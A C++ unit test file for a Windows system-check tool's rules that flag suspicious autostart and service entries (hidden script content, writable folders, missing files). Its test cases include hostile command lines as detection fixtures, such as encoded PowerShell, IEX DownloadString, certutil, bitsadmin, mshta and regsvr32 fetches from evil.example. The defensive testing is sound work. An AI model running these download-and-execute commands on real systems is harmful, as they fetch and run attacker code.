// The one rule set of the further autostart places: each rule's findings, and the
// entries a clean Windows carries, which are none.
#include <windows.h>

#include <shlobj.h>

#include <gtest/gtest.h>

#include "platform/Text.h"
#include "syscheck/checks/ModuleSuspicious.h"
#include "tests/unit/TestSupport.h"

namespace {

using ModuleSuspicious::Reason;

const wchar_t* Name(Reason reason) {
  switch (reason) {
    case Reason::None: return L"none";
    case Reason::WritableFolder: return L"writable folder";
    case Reason::HiddenContent: return L"hidden content";
    case Reason::MissingFile: return L"missing file";
    case Reason::Unlisted: return L"unlisted";
  }
  return L"?";
}

struct Case {
  const wchar_t* entry;
  Reason reason;
};

class Suspicious : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    for (const wchar_t* folder : {L"C:\\Program Files\\Zv Test", L"C:\\ProgramData\\Zv Vendor"})
      CreateDirectoryW(folder, nullptr);
    for (const wchar_t* file : {L"C:\\Program Files\\Zv Test\\app.exe", L"C:\\Program Files\\Zv Test\\s.vbs",
                                L"C:\\Program Files\\Zv Test\\app.hta", L"C:\\ProgramData\\Zv Vendor\\agent.exe"})
      testsupport::WriteFileBytes(file, "MZ");
  }
  void Expect(const Case& c) {
    EXPECT_STREQ(Name(c.reason), Name(ModuleSuspicious::JudgeCommand(c.entry))) << Text::ToUtf8(c.entry);
  }
};

TEST_F(Suspicious, ScriptHostsFetchingOrRunningHiddenContent) {
  const Case cases[] = {
      {L"powershell.exe -nop -w hidden -enc SQBFAFgA", Reason::HiddenContent},
      {L"\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -EncodedCommand SQBFAFgA",
       Reason::HiddenContent},
      {L"pwsh -e SQBFAFgA", Reason::HiddenContent},
      {L"PowerShell /ec SQBFAFgA", Reason::HiddenContent},
      {L"powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')\"",
       Reason::HiddenContent},
      {L"powershell.exe -Command iwr http://evil.example/a -OutFile a.exe", Reason::HiddenContent},
      {L"powershell -w hidden -c \"[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aWV4'))|iex\"",
       Reason::HiddenContent},
      {L"mshta http://evil.example/a.hta", Reason::HiddenContent},
      {L"mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"calc\"\":close\")",
       Reason::HiddenContent},
      {L"mshta.exe javascript:a=GetObject(\"script:https://evil.example/a.sct\").Exec();close();",
       Reason::HiddenContent},
      {L"rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)", Reason::HiddenContent},
      {L"rundll32 url.dll,OpenURL http://evil.example/a.hta", Reason::HiddenContent},
      {L"regsvr32 /s /n /u /i:http://evil.example/a.sct scrobj.dll", Reason::HiddenContent},
      {L"certutil -urlcache -split -f http://evil.example/a.exe a.exe", Reason::HiddenContent},
      {L"bitsadmin /transfer job /download /priority high http://evil.example/a.exe C:\\x\\a.exe",
       Reason::HiddenContent},
      {L"wscript.exe C:\\Users\\Public\\a.vbs", Reason::HiddenContent},
      {L"cscript //nologo %APPDATA%\\a.js", Reason::HiddenContent},
      {L"cmd.exe /c powershell -enc SQBFAFgA", Reason::HiddenContent},
      {L"C:\\Windows\\System32\\cmd.exe /c \"start /min mshta http://evil.example/a.hta\"", Reason::HiddenContent},
      {L"cmd /c cmd /c certutil -urlcache -f http://evil.example/a a.exe", Reason::HiddenContent},
      // Plain uses of the same programs.
      {L"powershell.exe -ExecutionPolicy Bypass -NoProfile -File \"C:\\Program Files\\Zv Test\\s.ps1\"", Reason::None},
      {L"rundll32.exe C:\\windows\\system32\\shell32.dll,Control_RunDLL", Reason::None},
      {L"mshta.exe \"C:\\Program Files\\Zv Test\\app.hta\"", Reason::None},
      {L"wscript \"C:\\Program Files\\Zv Test\\s.vbs\"", Reason::None},
      {L"cmd /c echo hello", Reason::None},
      {L"certutil -hashfile C:\\windows\\system32\\notepad.exe", Reason::None},
  };
  for (const Case& c : cases) Expect(c);
}

TEST_F(Suspicious, ProgramsWhereAnyUserCanWrite) {
  const Case cases[] = {
      {L"%APPDATA%\\updater\\up.exe", Reason::WritableFolder},
      {L"\"%LOCALAPPDATA%\\Temp\\x y\\svc.exe\" -run", Reason::WritableFolder},
      {L"\"C:\\Users\\Public\\Libraries\\svc.exe\" -run", Reason::WritableFolder},
      {L"C:\\ProgramData\\x.exe", Reason::WritableFolder},
      {L"%SystemRoot%\\Temp\\a.exe", Reason::WritableFolder},
      {L"%TEMP%\\a.exe /quiet", Reason::WritableFolder},
      {L"C:\\$Recycle.Bin\\S-1-5-21-1-2-3-1000\\a.exe", Reason::WritableFolder},
      {L"\\\\evil.example\\share\\a.exe", Reason::WritableFolder},
      {L"\\\\?\\C:\\Users\\Public\\a.exe", Reason::WritableFolder},
      {L"rundll32.exe %LOCALAPPDATA%\\a.dll,Start", Reason::WritableFolder},
      {L"regsvr32 /s C:\\Users\\Public\\a.dll", Reason::WritableFolder},
      // Where programs are installed.
      {L"\"C:\\Program Files\\Zv Test\\app.exe\" /background", Reason::None},
      {L"%ProgramFiles%\\Zv Test\\app.exe", Reason::None},
      {L"%SystemRoot%\\system32\\notepad.exe", Reason::None},
      {L"C:\\ProgramData\\Zv Vendor\\agent.exe", Reason::None},
  };
  for (const Case& c : cases) Expect(c);
}

// The OneDrive client a clean Windows installs in each user's own folder is
// Windows' own while Microsoft's version resource says so; a file put there under
// its name is not.
TEST_F(Suspicious, WindowsOwnOneDriveInTheProfilePassesAndAnImpostorDoesNot) {
  wchar_t local[MAX_PATH];
  ExpandEnvironmentStringsW(L"%LOCALAPPDATA%\\Microsoft\\OneDrive", local, MAX_PATH);
  const std::wstring folder = local, updater = folder + L"\\OneDriveStandaloneUpdater.exe";
  SHCreateDirectoryExW(nullptr, folder.c_str(), nullptr);
  ASSERT_TRUE(CopyFileW(testsupport::FixtureLibrary(L"ms").c_str(), updater.c_str(), FALSE));
  const Case microsoft[] = {
      {L"\"%LOCALAPPDATA%\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe\" /reporting", Reason::None},
      {L"%LOCALAPPDATA%\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe", Reason::None},
  };
  for (const Case& c : microsoft) Expect(c);
  testsupport::WriteFileBytes(updater, "MZ not Microsoft's");
  testsupport::WriteFileBytes(folder + L"\\OneDriveHelper.exe", "MZ");
  const Case impostors[] = {
      {L"%LOCALAPPDATA%\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe", Reason::WritableFolder},
      {L"%LOCALAPPDATA%\\Microsoft\\OneDrive\\OneDriveHelper.exe", Reason::WritableFolder},
  };
  for (const Case& c : impostors) Expect(c);
}

TEST_F(Suspicious, TargetsThatDoNotExist) {
  const Case cases[] = {
      {L"C:\\Program Files\\Zv Gone\\gone.exe", Reason::MissingFile},
      {L"\"C:\\Windows\\System32\\nothere.exe\" /x", Reason::MissingFile},
      {L"rundll32.exe C:\\Windows\\System32\\nothere.dll,Run", Reason::MissingFile},
      {L"notthere.exe /x", Reason::None},  // found along the search path, if at all
  };
  for (const Case& c : cases) Expect(c);
  EXPECT_STREQ(Name(Reason::MissingFile), Name(ModuleSuspicious::JudgeFile(L"C:\\Windows\\System32\\zvgone.dll")));
  EXPECT_STREQ(Name(Reason::WritableFolder), Name(ModuleSuspicious::JudgeFile(L"\"%APPDATA%\\a.dll\"")));
  EXPECT_STREQ(Name(Reason::None), Name(ModuleSuspicious::JudgeFile(L"%SystemRoot%\\system32\\shell32.dll")));
}

// A service's program in the forms the service manager and the kernel read: the
// Windows folder as "\\SystemRoot\\" or left out, "\\??\\" before a plain path.
TEST_F(Suspicious, ServiceProgramsInTheFormsWindowsReads) {
  testsupport::WriteFileBytes(L"C:\\windows\\system32\\drivers\\zvhere.sys", "MZ");
  const Case cases[] = {
      {L"\\SystemRoot\\System32\\drivers\\zvgone.sys", Reason::MissingFile},
      {L"System32\\drivers\\zvgone.sys", Reason::MissingFile},
      {L"\\??\\C:\\Users\\Public\\zvsvc.exe", Reason::WritableFolder},
      {L"\"\\??\\C:\\Users\\Public\\zv svc.exe\" -service", Reason::WritableFolder},
      {L"C:\\Program Files\\Zv Gone\\svc.exe -service", Reason::MissingFile},
      {L"\\SystemRoot\\System32\\drivers\\zvhere.sys", Reason::None},
      {L"system32\\DRIVERS\\zvhere.sys", Reason::None},
      {L"%SystemRoot%\\system32\\svchost.exe -k netsvcs -p", Reason::None},
      {L"C:\\Program Files\\Zv Test\\app.exe -service", Reason::None},
      {L"\"C:\\Program Files\\Zv Test\\app.exe\" -service", Reason::None},
      {L"svchost.exe -k zvgroup", Reason::None},  // found along the search path, if at all
  };
  for (const Case& c : cases)
    EXPECT_STREQ(Name(c.reason), Name(ModuleSuspicious::JudgeCommand(ModuleSuspicious::ServiceCommand(c.entry))))
        << Text::ToUtf8(c.entry);
}

TEST_F(Suspicious, FixedPlacesHoldOnlyWhatWindowsPutsThere) {
  const std::vector<std::wstring> own = {L"autocheck autochk *"};
  struct Fixed {
    const wchar_t* entry;
    Reason reason;
  } cases[] = {
      {L"autocheck autochk *", Reason::None},           {L"  AUTOCHECK autochk *  ", Reason::None},
      {L"autocheck autochk /q *", Reason::Unlisted},    {L"C:\\windows\\system32\\notepad.exe", Reason::Unlisted},
      {L"%APPDATA%\\boot.exe", Reason::WritableFolder},
  };
  for (const Fixed& c : cases)
    EXPECT_STREQ(Name(c.reason), Name(ModuleSuspicious::JudgeFixed(c.entry, own))) << Text::ToUtf8(c.entry);
  EXPECT_STREQ(Name(Reason::HiddenContent),
               Name(ModuleSuspicious::JudgeFixed(L"powershell -enc AAAA", {L"powershell -enc AAAA"})));
}

}  // namespace
